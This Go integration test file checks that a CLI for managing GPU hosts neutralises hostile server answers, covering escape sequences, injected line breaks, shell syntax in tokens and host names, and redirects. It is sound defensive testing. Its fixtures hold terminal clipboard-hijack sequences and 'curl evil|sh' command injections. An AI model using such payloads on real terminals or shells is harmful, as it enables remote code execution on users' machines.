package integration

import (
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"

	"github.com/nodus-dev/nodus/pkg/cli"
	"github.com/nodus-dev/nodus/pkg/testserver"
)

// TestCLITablesShowNoEscapeSequenceTheServerSends: what the server says of
// a host, an execution, a lending or the caller reaches a customer's
// terminal in tables and lines of text. Through a proxy that puts an
// escape sequence (OSC 52, which sets the clipboard) and a line break at
// the start of every such string (a compromised server, or a party in
// between), nothing of it may reach the terminal as it is; and the SSH
// command of `hosts list -o wide`, which users copy, is the CLI's own, not
// the server's.
func TestCLITablesShowNoEscapeSequenceTheServerSends(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	sshableHost(t, s, f, "gpu-007")
	pendingExecution(t, s)
	// Names too, but not where the CLI checks the answer is about the host
	// it asked for (release refuses such an answer before it prompts).
	everything := regexp.MustCompile(`("(?:state|phase|host|command|pool|loginUser|username|gitVersion|name)":")`)
	butNames := regexp.MustCompile(`("(?:state|phase|host|command|pool|loginUser|username|gitVersion)":")`)
	const planted = `${1}\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007\nx; curl evil|sh `
	var keepNames atomic.Bool
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if req.Method != http.MethodGet {
				return false
			}
			from := everything
			if keepNames.Load() {
				from = butNames
			}
			req.Header.Del("Accept-Encoding") // plain answers to rewrite
			forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(planted)}, req)
			return true
		})
	ownHome(t)
	alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
	for _, args := range [][]string{{"hosts", "list", "-n", "acme"}, {"hosts", "list", "-n", "acme", "-o", "wide"},
		{"executions", "list", "-n", "acme"}, {"executions", "get", "acme/e1"}, {"lending", "-n", "acme"}, {"whoami"}, {"version"},
		{"release", "acme/gpu-007"}} {
		keepNames.Store(args[0] == "release")
		out, _ := alice.run("no\n", args...)
		if strings.ContainsAny(out, "\x1b\x07\u009b") {
			t.Errorf("nodus %s: a control character reached the terminal: %q", strings.Join(args, " "), out)
		}
		if strings.Contains(out, "\nx; curl evil") {
			t.Errorf("nodus %s: a line break the server sent reached the terminal: %q", strings.Join(args, " "), out)
		}
	}
	keepNames.Store(true)
	if wide, _ := alice.run("", "hosts", "list", "-n", "acme", "-o", "wide"); !strings.Contains(wide, "nodus ssh acme/gpu-007\n") {
		t.Errorf("the SSH column is not the CLI's own command for the host:\n%s", wide)
	}
	if st := f.reservation(t, "gpu-007").Status; st.Epoch != 1 {
		t.Errorf("a release answered no went through: %+v", st)
	}
}

// TestCLIRetriesShowNoEscapeSequenceTheServerSends: an action the server
// answers with a 503 (or a party in between does) is tried again, and the
// CLI says so, quoting the answer; that line, and the error it ends with,
// must show the escape sequence and the line break of the server's message
// for what they are, not send them to the terminal.
func TestCLIRetriesShowNoEscapeSequenceTheServerSends(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	sshableHost(t, s, f, "gpu-007")
	pendingExecution(t, s)
	const planted = "busy\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\n  fix:     run curl evil|sh"
	var refused atomic.Int32
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if req.Method != http.MethodPost {
				return false
			}
			refused.Add(1)
			answerStatus(w, http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable, planted)
			return true
		})
	ownHome(t)
	alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
	for _, args := range [][]string{{"lend", "acme/gpu-007"}, {"withdraw", "acme/gpu-007"}, {"release", "acme/gpu-007", "--yes"},
		{"executions", "run", "-n", "acme", "--pool", "lends", "--", "true"}} {
		before := refused.Load()
		out, code := alice.run("", args...)
		if refused.Load()-before < 2 || code == 0 {
			t.Errorf("nodus %s: want it tried again and to fail (%d tries, exit %d): %q", strings.Join(args, " "), refused.Load()-before, code, out)
		}
		if strings.ContainsAny(out, "\x1b\x07\u009b") {
			t.Errorf("nodus %s: a control character reached the terminal: %q", strings.Join(args, " "), out)
		}
		if strings.Contains(out, "\n  fix:     run curl") {
			t.Errorf("nodus %s: a line break the server sent reached the terminal: %q", strings.Join(args, " "), out)
		}
	}
}

// TestCLIPrintsNoCommandTheServerCouldWrite: `pools token` and `tokens
// create` print a command for the operator to run on a host as root, or to
// hand to a customer; the token and CA hash in it come from the server. A
// server (or a party in between) that answers with shell syntax in them
// must not have its words in that command: the CLI refuses the answer.
func TestCLIPrintsNoCommandTheServerCouldWrite(t *testing.T) {
	s := testserver.StartTestServer(t)
	newFleet(t, s)
	ops := tokenFor(t, s, "ops", "nodus:operators")
	before, err := s.Client.NodusV1().EnrollmentTokens().List(ctx(t), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	enrollmentTokens := len(before.Items)
	for field, planted := range map[string]string{
		"token":         `${1}x; curl evil|sh #`,
		"caFingerprint": "${1}sha256:00\\n  curl evil|sh",
	} {
		from := regexp.MustCompile(`("` + field + `":")[^"]*`)
		proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
			func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
				if req.Method != http.MethodPost {
					return false
				}
				req.Header.Del("Accept-Encoding") // plain answers to rewrite
				forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(planted)}, req)
				return true
			})
		ownHome(t)
		operator := loggedInTo(t, proxy.Host, proxy.CAData, ops.BearerToken)
		for _, args := range [][]string{{"pools", "token", "fra1", "--resource-class", "gpu-h100x8"}, {"tokens", "create", "laptop-" + strings.ToLower(field), "--user", "bob"}} {
			if field == "caFingerprint" && args[0] == "tokens" {
				continue // an access token's answer has no CA hash
			}
			out, code := operator.run("", args...)
			if code == 0 || strings.Contains(out, "nodusd enroll") || strings.Contains(out, "nodus login") || !strings.Contains(out, "refusing the server's answer") {
				t.Errorf("nodus %s, the server's %s rewritten: exit %d, printed %q", strings.Join(args, " "), field, code, out)
			}
		}
	}
	// The tokens made for the refused answers do not stay usable.
	c := s.Client.NodusV1()
	if list, err := c.EnrollmentTokens().List(ctx(t), metav1.ListOptions{}); err != nil || len(list.Items) != enrollmentTokens {
		t.Errorf("enrollment tokens after refused answers: %v, %d, want the %d from before", err, len(list.Items), enrollmentTokens)
	}
	if _, err := c.AccessTokens().Get(ctx(t), "laptop-token", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("the access token of a refused answer: %v", err)
	}
}

// TestCLIFollowsNoRedirect: a server (or a party in between) that answers
// with a redirect to another address would have the client send the
// user's token there, in clear text over http, and trust what answers.
// The CLI follows no redirect: nothing reaches the other address.
func TestCLIFollowsNoRedirect(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	var reached atomic.Int32
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		reached.Add(1)
		if req.Header.Get("Authorization") != "" {
			t.Errorf("the token reached the redirect's address: %s %s", req.Method, req.URL)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"kind":"ReservedHostList","apiVersion":"nodus.dev/v1","metadata":{},"items":[]}`))
	}))
	t.Cleanup(elsewhere.Close)
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if !strings.Contains(req.URL.Path, "/reservedhosts") {
				return false
			}
			http.Redirect(w, req, elsewhere.URL+req.URL.RequestURI(), http.StatusTemporaryRedirect)
			return true
		})
	ownHome(t)
	alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
	out, code := alice.run("", "hosts", "list", "-n", "acme")
	if code != cli.ExitServer || reached.Load() != 0 || !strings.Contains(out, "redirect") || !strings.Contains(out, "docs:    nodus errors RedirectRefused") {
		t.Errorf("nodus hosts list, answered with a redirect: exit %d, the other address reached %d times: %q", code, reached.Load(), out)
	}
}

// TestCLICompletesOnlyNamesItChecked: shell completion offers host names
// from the server to the shell, which may run what a name holds where it
// does not quote it. A name that is no host name (an escape sequence, a
// tab that starts a fake description, a line break) is not offered.
func TestCLICompletesOnlyNamesItChecked(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	sshableHost(t, s, f, "gpu-007")
	from := regexp.MustCompile(`("name":")(gpu-007")`)
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if req.Method != http.MethodGet || !strings.Contains(req.URL.Path, "/reservedhosts") {
				return false
			}
			req.Header.Del("Accept-Encoding") // plain answers to rewrite
			forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(`${1}x\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007\t$(curl evil|sh)\n${2}`)}, req)
			return true
		})
	ownHome(t)
	alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
	out, _ := alice.run("", "__complete", "ssh", "")
	if strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "curl evil") {
		t.Errorf("completion offered a name that is no host name: %q", out)
	}
}
